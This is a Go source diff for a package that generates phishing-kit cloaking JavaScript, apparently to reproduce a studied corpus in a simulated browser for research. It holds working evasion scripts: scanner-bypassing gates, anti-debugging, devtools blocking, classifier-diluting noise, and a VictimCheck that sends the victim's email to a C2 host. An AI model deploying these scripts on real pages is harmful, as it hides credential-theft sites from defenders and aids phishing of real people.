@@ -1,0 +1,199 @@
+package cloak
+
+import (
+	"fmt"
+)
+
+// Client-side cloak script generators. Each returns JavaScript that the
+// phishkit embeds in its gate pages; the scripts run in the simulated
+// browser exactly as the corpus scripts ran in Chrome.
+
+// FingerprintGate reveals base64-encoded content only when the user agent
+// contains uaNeedle, the Intl timezone equals timezone, and the navigator
+// language equals language — the triple observed on 15+ corpus messages.
+func FingerprintGate(uaNeedle, timezone, language, contentB64 string) string {
+	return fmt.Sprintf(`
+	(function() {
+		var ua = navigator.userAgent;
+		var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+		var lang = navigator.language || navigator.userLanguage;
+		if (ua.indexOf(%q) >= 0 && tz === %q && lang === %q) {
+			document.body.setInnerHTML(atob(%q));
+		}
+	})();
+	`, uaNeedle, timezone, language, contentB64)
+}
+
+// InteractionGate reveals content only after a trusted input event — the
+// user-interaction cloak class.
+func InteractionGate(contentB64 string) string {
+	return fmt.Sprintf(`
+	document.addEventListener("mousemove", function(e) {
+		if (e.isTrusted) {
+			document.body.setInnerHTML(atob(%q));
+		}
+	});
+	`, contentB64)
+}
+
+// DelayedReveal shows the content after delayMs of quiet — the bot-behavior
+// cloak that outlasts impatient scanners.
+func DelayedReveal(contentB64 string, delayMs int) string {
+	return fmt.Sprintf(`
+	setTimeout(function() {
+		document.body.setInnerHTML(atob(%q));
+	}, %d);
+	`, contentB64, delayMs)
+}
+
+// OTPGate requires a one-time password (sent in a separate message) before
+// the malicious login page is shown. Security scanners visiting the URL see
+// only the prompt — 47 corpus messages used this.
+func OTPGate(code, redirectPath string) string {
+	return fmt.Sprintf(`
+	function __otpCheck() {
+		var entered = document.getElementById("otp").value;
+		if (entered === %q) {
+			location.href = %q;
+		} else {
+			document.getElementById("msg").setInnerHTML("Invalid code.");
+		}
+	}
+	`, code, redirectPath)
+}
+
+// OTPGatePage is the full OTP prompt document.
+func OTPGatePage(code, redirectPath string) string {
+	return `<html><body>
+<p>For your security, enter the access code we sent you separately.</p>
+<input id="otp" type="text" name="otp">
+<button onclick="__otpCheck()">Continue</button>
+<div id="msg"></div>
+<script>` + OTPGate(code, redirectPath) + `</script>
+</body></html>`
+}
+
+// MathChallenge is the custom challenge–response gate (11 corpus messages):
+// solve a trivial equation to proceed. Trivial for a human, but it requires
+// custom automation per kit.
+func MathChallenge(a, b int, redirectPath string) string {
+	return fmt.Sprintf(`<html><body>
+<p>Please verify you are human: what is %d + %d?</p>
+<input id="answer" type="text" name="answer">
+<button onclick="__mathCheck()">Verify</button>
+<div id="msg"></div>
+<script>
+function __mathCheck() {
+	var v = parseInt(document.getElementById("answer").value, 10);
+	if (v === %d) {
+		location.href = %q;
+	} else {
+		document.getElementById("msg").setInnerHTML("Wrong answer.");
+	}
+}
+</script>
+</body></html>`, a, b, a+b, redirectPath)
+}
+
+// ConsoleHijack redefines the console methods to hamper analysis — seen on
+// at least 295 corpus messages.
+func ConsoleHijack() string {
+	return `
+	(function() {
+		var noop = function() { return undefined; };
+		console.log = noop;
+		console.warn = noop;
+		console.error = noop;
+		console.info = noop;
+		console.debug = noop;
+	})();
+	`
+}
+
+// DebuggerTimer starts the anti-debugging loop (10+ corpus messages): every
+// second, record the time, hit the debugger statement, record again — a
+// paused debugger shows up as elapsed time.
+func DebuggerTimer(c2Host string) string {
+	return fmt.Sprintf(`
+	setInterval(function() {
+		var t1 = Date.now();
+		debugger;
+		var t2 = Date.now();
+		if (t2 - t1 > 100) {
+			var x = new XMLHttpRequest();
+			x.open("GET", "https://%s/debug-detected", false);
+			x.send();
+		}
+	}, 1000);
+	`, c2Host)
+}
+
+// BlockDevtools disables the context menu and inspection shortcuts (39
+// corpus messages).
+func BlockDevtools() string {
+	return `
+	document.addEventListener("contextmenu", function(e) { e.preventDefault(); });
+	document.addEventListener("keydown", function(e) {
+		if (e.key === "F12" || (e.ctrlKey && e.shiftKey)) { e.preventDefault(); }
+	});
+	`
+}
+
+// HueRotate is the visual-similarity evasion found on 167 pages: a
+// base64-carried snippet prepended to <head> that rotates the whole
+// document's hue by a few degrees.
+func HueRotate(degrees int) string {
+	// The corpus carries the filter value base64-encoded; the script
+	// decodes it at run time before installing the style, so static
+	// scanners never see the literal "hue-rotate" string.
+	payload := EncodeBase64HTML(fmt.Sprintf("hue-rotate(%ddeg)", degrees))
+	return fmt.Sprintf(`
+	(function() {
+		document.documentElement.style.filter = atob(%q);
+	})();
+	`, payload)
+}
+
+// VictimCheck is the obfuscated script shared across 38 corpus domains
+// (151 messages): extract the victim's base64 email from the URL fragment
+// or token, validate it with a regex, then synchronously ask the C2 whether
+// this address is in the target database; only then reveal the page.
+func VictimCheck(c2Host, contentB64 string) string {
+	return fmt.Sprintf(`
+	(function() {
+		var raw = location.hash;
+		if (raw.length > 1) { raw = raw.slice(1); } else { return; }
+		var email = "";
+		try { email = atob(raw); } catch (e) { return; }
+		var re = new RegExp("^[a-zA-Z0-9._%%+-]+@[a-zA-Z0-9.-]+\\.[a-zA-Z]{2,}$");
+		if (!re.test(email)) { return; }
+		var x = new XMLHttpRequest();
+		x.open("GET", "https://%s/check?email=" + encodeURIComponent(email), false);
+		x.send();
+		if (x.status === 200 && x.responseText === "allow") {
+			document.body.setInnerHTML(atob(%q));
+		}
+	})();
+	`, c2Host, contentB64)
+}
+
+// NoisePadding generates the message-level evasion of Section V-C1: a long
+// run of line breaks followed by random-looking filler text that dilutes
+// content-based classifiers. The filler is deterministic in seed.
+func NoisePadding(seed, lineBreaks, words int) string {
+	out := make([]byte, 0, lineBreaks+words*8)
+	for i := 0; i < lineBreaks; i++ {
+		out = append(out, '\n')
+	}
+	state := uint64(seed)*6364136223846793005 + 1442695040888963407
+	const letters = "abcdefghijklmnopqrstuvwxyz"
+	for w := 0; w < words; w++ {
+		n := 3 + int(state%8)
+		for i := 0; i < n; i++ {
+			state = state*6364136223846793005 + 1442695040888963407
+			out = append(out, letters[state%26])
+		}
+		out = append(out, ' ')
+	}
+	return string(out)
+}
